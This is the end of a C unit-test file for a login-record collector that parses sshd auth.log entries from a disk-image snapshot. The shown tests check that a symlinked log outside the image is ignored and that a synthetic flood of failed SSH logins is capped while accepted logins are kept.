		tl_mkdirs(dir, "img/var/log");
		tl_symlink(dir, "img/var/log/auth.log", outside);
		free(outside);
	}
	{
		char *img = tl_path(dir, "img");

		s = img_snap(img);
		logins_collect(s);
		assert_int_equal(s->nlogins, 0);
		close(s->rootfd);
		tl_snap_free(s);
		free(img);
	}
	tl_rmrf(dir);
	free(dir);
}

static void
test_collect_caps(void **state)
{
	char *dir = tl_tmpdir();
	struct buf b;
	struct snapshot *s;
	size_t nfail = 0;

	(void)state;
	/* a brute force of 5000 failures around 20 accepted logins: every
	 * accepted one is kept, the failures are capped */
	buf_init(&b, 8u << 20);
	for (int i = 0; i < 5000; i++) {
		buf_printf(&b, "Nov 28 %02d:%02d:%02d web1 sshd[%d]: Failed "
		    "password for invalid user u%d from 198.51.100.%d port %d "
		    "ssh2\n", i / 3600, (i / 60) % 60, i % 60, 1000 + i, i,
		    i % 250, 1024 + i);
		if (i % 250 == 0)
			buf_printf(&b, "Nov 28 %02d:%02d:%02d web1 sshd[%d]: "
			    "Accepted password for admin from 192.0.2.%d port "
			    "22 ssh2\n", i / 3600, (i / 60) % 60, i % 60,
			    9000 + i, i / 250);
	}
	tl_write(dir, "var/log/auth.log", b.data, b.len);
	set_mtime(dir, "var/log/auth.log", T_NOV28);
	buf_free(&b);
	s = img_snap(dir);
	logins_collect(s);
	assert_true(s->logins_capped);
	for (size_t i = 0; i < s->nlogins; i++)
		nfail += s->logins[i].kind == LOGIN_FAILED;
	assert_int_equal(nfail, RM_LOGINS_FAILED_MAX);
	assert_int_equal(s->nlogins, RM_LOGINS_FAILED_MAX + 20);
	/* the newest failures are the ones kept */
	assert_string_equal(s->logins[s->nlogins - 1].user, "u4999");
	close(s->rootfd);
	tl_snap_free(s);
	tl_rmrf(dir);
	free(dir);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_layout),
		cmocka_unit_test(test_wtmp_records),
		cmocka_unit_test(test_wtmp_hostile),
		cmocka_unit_test(test_sshd_accepted),
		cmocka_unit_test(test_sshd_failed),
		cmocka_unit_test(test_sudo),
		cmocka_unit_test(test_stamps),
		cmocka_unit_test(test_long_lines),
		cmocka_unit_test(test_collect_image),
		cmocka_unit_test(test_collect_caps),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
